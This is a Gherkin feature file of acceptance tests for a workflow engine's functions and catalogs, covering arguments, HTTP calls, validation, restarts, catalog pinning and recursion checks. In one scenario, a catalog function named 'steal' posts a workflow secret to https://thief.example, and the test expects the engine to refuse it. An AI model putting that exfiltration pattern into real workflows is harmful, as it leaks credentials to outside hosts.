Feature: Functions and catalogs

  Scenario: A function of the document gets its arguments as its input
    Given a workflow with:
    """yaml
    use: {functions: {greet: {set: {text: '${ "Hello, \(.name)" }', all: '${ . }'}}}}
    do:
      - hello: {call: greet, with: {name: '${ .who }'}}
    """
    And the workflow input is:
    """yaml
    {who: Ann, other: 1}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    {text: 'Hello, Ann', all: {name: Ann}}
    """

  Scenario: A function may call the network with its arguments in the address
    Given the service at https://shop.example/pets/7 answers:
    """yaml
    - {body: {name: Rex}}
    """
    And a workflow with:
    """yaml
    use:
      functions:
        pet: {call: http, with: {method: get, endpoint: 'https://shop.example/pets/{id}'}}
    do:
      - ask: {call: pet, with: {id: 7}}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    name: Rex
    """

  Scenario: A function is called by two tasks, each with its own arguments
    Given a workflow with:
    """yaml
    use: {functions: {add: {call: inc, with: {x: '${ .n }'}}}}
    do:
      - one: {call: add, with: {n: 1}}
      - two: {call: add, with: {n: '${ . * 10 }'}}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    21
    """
    And the effects should have been performed once

  Scenario: A function checks its arguments
    Given a workflow with:
    """yaml
    use:
      functions:
        add:
          input: {schema: {document: {type: object, required: [n], properties: {n: {type: integer}}}}}
          call: inc
          with: {x: '${ .n }'}
    do:
      - one: {call: add, with: {n: '${ .text }'}}
    """
    And the workflow input is:
    """yaml
    text: seven
    """
    When the workflow is executed
    Then the workflow should fault with error:
    """yaml
    type: https://serverlessworkflow.io/spec/1.0.0/errors/validation
    """
    And one should have been done 0 times

  Scenario: A fault in a function can be caught where it is called
    Given a workflow with:
    """yaml
    use:
      functions:
        stop: {raise: {error: {type: 'https://shop.example/errors/x', status: 418, title: X}}}
    do:
      - attempt:
          try: [{one: {call: stop}}]
          catch: {errors: {with: {status: 418}}, do: [{give: {set: {caught: true}}}]}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    caught: true
    """

  Scenario: A function that waits goes on after podium was killed
    Given a workflow with:
    """yaml
    use:
      functions:
        slow: {do: [{one: {call: inc, with: {x: '${ .n }'}}}, {nap: {wait: PT10M}}, {two: {call: inc, with: {x: '${ . }'}}}]}
    do:
      - first: {call: slow, with: {n: 1}}
    """
    When the workflow is started
    And podium is killed and started again 5 minutes later
    And the workflow has ended
    Then the workflow should complete with output:
    """yaml
    3
    """
    And the effects should have been performed once

  Scenario: A function of a catalog is fetched when the workflow is stored
    Given the file at https://catalog.example/functions/greet/1.0.0/function.yaml is:
    """yaml
    input: {schema: {document: {type: object, required: [name]}}}
    set: {text: '${ "Hello, \(.name)" }'}
    """
    And a workflow with:
    """yaml
    use: {catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - hello: {call: 'greet:1.0.0@company', with: {name: Ann}}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    text: Hello, Ann
    """
    And the service at https://catalog.example should have been asked 1 time

  Scenario: A function that changes in its catalog stays the same for what is stored
    Given the file at https://catalog.example/functions/greet/1.0.0/function.yaml is:
    """yaml
    set: {text: before}
    """
    And a workflow with:
    """yaml
    use: {catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - nap: {wait: PT1M}
      - hello: {call: 'greet:1.0.0@company'}
    """
    When the workflow is started
    And the catalog at https://catalog.example has gone
    And podium is killed and started again
    And the workflow has ended
    Then the workflow should complete with output:
    """yaml
    text: before
    """

  Scenario: A function at an address is called by its address
    Given the file at https://functions.example/greet.yaml is:
    """yaml
    set: {text: '${ "Hello, \(.name)" }'}
    """
    And a workflow with:
    """yaml
    do:
      - hello: {call: 'https://functions.example/greet.yaml', with: {name: Bo}}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    text: Hello, Bo
    """

  Scenario: A page of GitHub stands for the file that it shows
    Given the file at https://raw.githubusercontent.com/acme/catalog/refs/heads/main/functions/greet/1.0.0/function.yaml is:
    """yaml
    set: {text: hello}
    """
    And a workflow with:
    """yaml
    use: {catalogs: {global: {endpoint: 'https://github.com/acme/catalog'}}}
    do:
      - hello: {call: 'greet:1.0.0@global'}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    text: hello
    """

  Scenario: Functions of a catalog may call each other
    Given the file at https://catalog.example/functions/outer/1.0.0/function.yaml is:
    """yaml
    do:
      - first: {call: 'inner:1.0.0@company', with: {n: '${ .n }'}}
      - second: {call: 'inner:1.0.0@company', with: {n: '${ . }'}}
    """
    And the file at https://catalog.example/functions/inner/1.0.0/function.yaml is:
    """yaml
    call: inc
    with: {x: '${ .n }'}
    """
    And a workflow with:
    """yaml
    use: {catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - go: {call: 'outer:1.0.0@company', with: {n: 1}}
    """
    When the workflow is executed
    Then the workflow should complete with output:
    """yaml
    3
    """

  Scenario: Fetched functions that call each other for ever are refused
    Given the file at https://catalog.example/functions/ping/1.0.0/function.yaml is:
    """yaml
    do: [{go: {call: 'pong:1.0.0@company'}}]
    """
    And the file at https://catalog.example/functions/pong/1.0.0/function.yaml is:
    """yaml
    do: [{go: {call: 'ping:1.0.0@company'}}]
    """
    And a workflow that cannot be stored:
    """yaml
    use: {catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - go: {call: 'ping:1.0.0@company'}
    """
    Then the definition is refused, saying: call each other for ever

  Scenario: A fetched function may not read secrets
    Given the file at https://catalog.example/functions/steal/1.0.0/function.yaml is:
    """yaml
    call: http
    with: {method: post, endpoint: 'https://thief.example', body: {it: '${ $secrets.key }'}}
    """
    And a workflow that cannot be stored:
    """yaml
    use: {secrets: [key], catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - go: {call: 'steal:1.0.0@company'}
    """
    Then the definition is refused, saying: reads a secret

  Scenario: A function that its catalog does not have stops the workflow from being stored
    Given the service at https://catalog.example answers:
    """yaml
    - {status: 404}
    """
    And a workflow that cannot be stored:
    """yaml
    use: {catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - go: {call: 'nothing:1.0.0@company'}
    """
    Then the definition is refused, saying: answered 404

  Scenario: A literal argument that a fetched function does not take is refused
    Given the file at https://catalog.example/functions/greet/1.0.0/function.yaml is:
    """yaml
    input: {schema: {document: {type: object, required: [name]}}}
    set: {text: hello}
    """
    And a workflow that cannot be stored:
    """yaml
    use: {catalogs: {company: {endpoint: 'https://catalog.example'}}}
    do:
      - go: {call: 'greet:1.0.0@company', with: {nome: Ann}}
    """
    Then the definition is refused, saying: name
